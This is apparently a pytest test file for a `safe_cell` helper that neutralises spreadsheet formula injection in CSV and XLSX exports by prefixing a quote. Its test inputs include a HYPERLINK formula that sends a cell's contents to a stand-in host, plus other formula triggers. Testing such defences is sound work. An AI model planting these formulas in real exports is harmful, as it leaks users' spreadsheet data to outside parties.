"""Cells for exports: text a spreadsheet would run as a formula is written as plain text."""

from __future__ import annotations

import csv
import io
from datetime import date
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from bot.spreadsheet import safe_cell

FORMULAS = [
    '=HYPERLINK("http://x.example/?"&A1)', "+381 64 123", "-2+3", "@SUM(A1)", "\t=1", "\r=1",
    "  =1+1", "\uff1d1+1",
]  # fmt: skip


@pytest.mark.parametrize("text", FORMULAS)
def test_text_a_spreadsheet_would_run_gets_a_leading_quote(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value", ["Fudbal", "Porodični dan", "a=b", "", None, -5, 2.5, date(2027, 1, 5)]
)
def test_other_values_pass_unchanged(value: object) -> None:
    assert safe_cell(value) == value


def test_an_exported_workbook_holds_the_text_not_a_formula(tmp_path: Path) -> None:
    book = Workbook()
    book.active.append([safe_cell("=1+1"), safe_cell("Fudbal"), safe_cell(-5)])
    path = tmp_path / "out.xlsx"
    book.save(path)
    cells = next(load_workbook(path).active.iter_rows())
    assert [(c.value, c.data_type) for c in cells] == [("'=1+1", "s"), ("Fudbal", "s"), (-5, "n")]


def test_an_exported_csv_starts_no_cell_with_a_formula_character() -> None:
    out = io.StringIO()
    csv.writer(out).writerow([safe_cell(t) for t in FORMULAS])
    cells = next(csv.reader(io.StringIO(out.getvalue())))
    assert all(cell.startswith("'") for cell in cells)
